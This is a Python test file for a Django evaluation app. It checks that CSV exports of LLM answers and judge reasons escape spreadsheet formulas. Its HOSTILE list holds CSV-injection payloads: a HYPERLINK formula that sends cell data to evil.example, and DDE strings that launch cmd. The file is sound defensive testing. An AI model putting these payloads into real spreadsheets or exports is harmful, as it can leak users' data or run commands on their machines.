"""The evaluation's CSV export is safe to open in a spreadsheet: model answers and judge reasons
come from an LLM, so any cell that starts like a formula is written as text (OWASP's leading
single quote), on the screen's download and the API's alike."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from rest_framework.test import APIClient

from metrics.selectors.evaluation import csv_cell
from metrics.services import evaluation as services
from metrics.services.evaluation import evalrun_start
from tests.metrics.test_services_evaluation import curated, endpoints, run_here  # noqa: F401

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看房源")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile_run(team, curated, label_llm):  # noqa: F811
    """A run answered and judged by the test LLM, whose answers and reasons are then what a
    hostile (or prompt-injected) model could write."""
    general, _, judge = endpoints(team, label_llm.url)
    test_set = services.testset_create(
        project=team.project, name="held-out", size=9, actor=team.lead
    )
    run = run_here(
        evalrun_start(project=team.project, test_set=test_set, model_endpoint=general,
                      judge_endpoint=judge, actor=team.lead, dispatch=False)
    )  # fmt: skip
    answers = list(run.answers.order_by("item__position"))
    for answer, text in zip(answers, HOSTILE, strict=False):
        answer.answer = text
        answer.reason = "=1+2 " + answer.reason
        answer.save(update_fields=["answer", "reason"])
    return run


def rows(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def check(exported: list[dict], run) -> None:
    answers = list(run.answers.order_by("item__position"))
    assert len(exported) == len(answers) == 9
    for row, answer in zip(exported, answers, strict=True):
        for field in ("answer", "reason"):
            cell, original = row[field], getattr(answer, field)
            if original.startswith(("=", "+", "-", "@", "\t", "\r")):
                assert cell == "'" + original.replace("\r", "\n") or cell == "'" + original
            else:
                assert cell == original  # ordinary Chinese answers are untouched
        assert row["score"] == str(answer.score) and row["position"] == str(answer.item.position)
    assert exported[0]["answer"].startswith("'=HYPERLINK(")
    assert all(not row["answer"].startswith(("=", "+", "-", "@", "\t", "\r")) for row in exported)
    assert all(row["reason"].startswith("'=1+2 ") for row in exported[: len(HOSTILE)])


def test_the_api_export_neutralises_formulas(team, hostile_run):
    client = APIClient()
    client.force_authenticate(team.annotator)
    url = f"/api/projects/{team.project.slug}/eval-runs/{hostile_run.pk}/export/?fmt=csv"
    response = client.get(url)
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    check(rows(b"".join(response.streaming_content)), hostile_run)


def test_the_screen_export_neutralises_formulas(team, hostile_run):
    url = reverse("metrics:run_export", args=[team.project.slug, hostile_run.pk, "csv"])
    response = team.client("annotator").get(url)
    assert response.status_code == 200
    check(rows(b"".join(response.streaming_content)), hostile_run)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("-5", "'-5"),
        ("@A1", "'@A1"),
        ("客户说=1+1", "客户说=1+1"),  # only the first character counts
        ("", ""),
        (-5, -5),  # a number is a number
        (None, None),
    ],
)
def test_csv_cell(value, written):
    assert csv_cell(value) == written
